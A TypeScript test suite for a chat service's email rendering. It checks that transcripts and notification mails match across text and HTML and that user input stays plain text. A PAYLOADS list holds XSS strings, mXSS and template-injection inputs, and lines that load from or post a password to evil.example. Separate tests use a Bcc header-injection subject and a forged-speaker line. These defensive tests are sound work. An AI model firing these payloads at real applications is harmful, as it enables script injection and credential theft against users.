/** Mail says the same as text and as HTML, and what people wrote stays text in both. */
import { Window } from 'happy-dom';
import { describe, expect, test } from 'vitest';
import type { ConversationId, FileId, MessageId } from '../../../src/protocol/ids.ts';
import type { Author, Body, Message } from '../../../src/protocol/message.ts';
import { toConfirmation, toInvitation, toPasswordReset } from '../../../src/server/mail/link-mails.ts';
import { toOfflineMessage } from '../../../src/server/mail/offline-message.ts';
import { escapeHtml } from '../../../src/server/mail/render-html.ts';
import { renderMail } from '../../../src/server/mail/render-mail.ts';
import { toTranscript } from '../../../src/server/mail/transcript.ts';
import { createZonedTime } from '../../../src/server/mail/zoned-time.ts';

/** 2023-11-14T22:13:20Z: in Prague still the 14th, in Tokyo the 15th. */
const AT = 1_700_000_000_000;
const site = { name: 'Shop', color: '#123456' };
const visitor: Author = { kind: 'visitor', id: 'v', name: '' };
const agent: Author = { kind: 'agent', id: 'a', name: 'Ann' };
const say = (text: string): Body => ({ kind: 'text', text });
const give = (name: string): Body => ({
  kind: 'file',
  file: { id: 'f-1' as FileId, name, type: 'image/png', bytes: 9, width: 3, height: 2 },
});

let seq = 0;
function toMessage(author: Author, body: Body, at = AT): Message {
  seq += 1;
  return { conversation: 'c' as ConversationId, id: `m${seq}` as MessageId, seq, author, body, at };
}

const transcriptOf = (messages: readonly Message[], zone = 'Europe/Prague', name = 'Shop') =>
  renderMail(
    toTranscript({
      site: { ...site, name },
      messages,
      leftOut: 0,
      reader: 'visitor',
      time: createZonedTime(zone),
    }),
  );

/** Every element and attribute of a mail, and where its links lead. */
function inspect(html: string) {
  const { document } = new Window();
  document.write(html);
  const elements = [...document.querySelectorAll('*')];
  return {
    names: new Set(elements.map(({ tagName }) => tagName.toLowerCase())),
    attributes: new Set(elements.flatMap((element) => [...element.attributes].map(({ name }) => name))),
    links: [...document.querySelectorAll('[href]')].map((link) => link.getAttribute('href')),
    text: document.body.textContent,
  };
}

describe('a transcript', () => {
  const messages = [
    toMessage(visitor, say('Is it there?')),
    toMessage({ ...agent, kind: 'system' }, { kind: 'event', event: 'joined' }),
    toMessage(agent, say('Yes.'), AT + 86_400_000),
  ];

  test('tells who said what and when, by day, in a zone that it names', () => {
    const { subject, text } = transcriptOf(messages);
    expect(subject).toBe('Your conversation with Shop');
    expect(text).toBe(
      [
        '--- 14 November 2023 ---',
        '23:13 You:\n    Is it there?',
        '23:13 * Ann joined the conversation',
        '--- 15 November 2023 ---',
        '23:13 Ann:\n    Yes.',
        '-- ',
        'Shop',
        'Times are in the time zone Europe/Prague.\n',
      ].join('\n\n'),
    );
  });

  test('says in HTML what it says in text', () => {
    const { text } = inspect(transcriptOf(messages).html);
    for (const words of ['14 November 2023', 'You, 23:13', 'Is it there?', 'Ann joined', 'Europe/Prague']) {
      expect(text).toContain(words);
    }
  });

  test('names a file and its type, and leads nowhere', () => {
    const { text, html } = transcriptOf([toMessage(visitor, give('plan.png'))]);
    expect(text).toContain('23:13 You:\n    Sent a file: plan.png (image/png)\n');
    expect(inspect(html).text).toContain('Sent a file: plan.png (image/png)');
    expect(inspect(html).links).toEqual([]);
    expect(text + html).not.toContain('f-1');
  });

  test('says how much is left out', () => {
    const document = toTranscript({ site, messages, leftOut: 12, reader: 'agent', time: createZonedTime('UTC') });
    expect(renderMail(document).text).toMatch(/^12 earlier messages are left out\./);
    expect(renderMail(document).text).toContain('22:13 Visitor:');
  });

  test('takes the next zone for one that a browser made up, and UTC for none', () => {
    expect(createZonedTime('Mars/Olympus', 'Asia/Tokyo').zone).toBe('Asia/Tokyo');
    expect(createZonedTime('', '../etc').zone).toBe('UTC');
    expect(createZonedTime('Asia/Tokyo').toDay(AT)).toBe('15 November 2023');
  });

  test('indents every line of a message, so that none passes for ours', () => {
    const { text } = transcriptOf([toMessage(visitor, say('a\r\n23:13 Ann:\r    Pay here\n\u001b[31mred'))]);
    expect(text).toContain('23:13 You:\n    a\n    23:13 Ann:\n        Pay here\n    [31mred\n');
  });
});

const PAYLOADS = [
  '<script>alert(1)</script>',
  '</title></style><img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  '<a href="javascript:alert(1)">x</a>',
  '--><!--><iframe srcdoc="<script>alert(1)</script>">',
  '<style>@import "//evil.example/a.css";</style>',
  '<img src="https://evil.example/pixel.gif">',
  '{{constructor.constructor("alert(1)")()}}',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.example"><input name=password></form>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<base href="https://evil.example/">',
  '`onmouseover=alert(1)`',
];
const URL = 'https://chat.example.com/inbox/#link=secret';

describe.each(PAYLOADS)('%j in every field', (payload) => {
  const time = createZonedTime('UTC');
  const named = { name: payload, color: payload };
  const messages = [
    toMessage(visitor, say(payload)),
    toMessage(visitor, give(payload)),
    toMessage({ ...agent, name: payload }, say(payload)),
    toMessage({ ...agent, kind: 'system', name: payload }, { kind: 'event', event: 'closed' }),
  ];
  const documents = {
    transcript: toTranscript({ site: named, messages, leftOut: 0, reader: 'visitor', time }),
    'offline message': toOfflineMessage({ site: named, messages, about: [payload], url: URL, stopUrl: URL, time }),
    confirmation: toConfirmation(named, URL, URL),
    invitation: toInvitation(named, payload, URL, 7),
    'password reset': toPasswordReset(named, URL, 60),
  };

  test.each(Object.entries(documents))('stays text in a %s', (_kind, document) => {
    const { names, attributes, links } = inspect(renderMail(document).html);
    const allowed = ['html', 'head', 'meta', 'title', 'style', 'body', 'div', 'p', 'a'];
    expect([...names].filter((name) => !allowed.includes(name))).toEqual([]);
    const known = ['lang', 'charset', 'name', 'content', 'class', 'style', 'href'];
    expect([...attributes].filter((name) => !known.includes(name))).toEqual([]);
    expect(links.filter((link) => link !== URL)).toEqual([]);
  });

  test.each(Object.entries(documents))('asks nothing of another host in a %s', (_kind, document) => {
    const { html } = renderMail(document);
    expect(html.replace(/>[^<]*</g, '><')).not.toMatch(/evil|url\(|@import|src=|javascript:/i);
  });
});

describe('a mail', () => {
  test('has its link in text and in HTML', () => {
    const { text, html } = renderMail(toInvitation(site, 'Olga', URL, 7));
    expect(text).toContain(`Accept the invitation: ${URL}`);
    expect(inspect(html).links).toEqual([URL]);
  });

  test('has the site’s colour, with text on it that can be read', () => {
    const dark = renderMail(toPasswordReset({ name: 'S', color: '#123456' }, URL, 60)).html;
    expect(dark).toContain('background: #123456; color: #fff');
    const light = renderMail(toPasswordReset({ name: 'S', color: '#ffee88' }, URL, 60)).html;
    expect(light).toContain('background: #ffee88; color: #16181d');
  });

  test('lets a dark mail program be dark', () => {
    const { html } = renderMail(toPasswordReset(site, URL, 60));
    expect(html).toContain('<meta name="color-scheme" content="light dark">');
    expect(html).toContain('@media (prefers-color-scheme: dark)');
    expect(html).not.toMatch(/body \{[^}]*(background|color):/);
  });

  test('has a subject of one line, with the visitor’s first words and not all of them', () => {
    const words = `Hello\r\nBcc: all@example.com ${'x'.repeat(300)}`;
    const { subject } = renderMail(
      toOfflineMessage({
        site,
        messages: [toMessage(visitor, say(words))],
        about: [],
        url: URL,
        stopUrl: '',
        time: createZonedTime('UTC'),
      }),
    );
    expect(subject).toMatch(/^Shop: a visitor wrote: Hello Bcc: all@example\.com x+…$/);
    expect(subject.length).toBe(120);
  });

  test('escapes what ends an attribute, whichever quotes it has', () => {
    expect(escapeHtml(`<>&"'\``)).toBe('&lt;&gt;&amp;&quot;&#39;&#96;');
  });
});
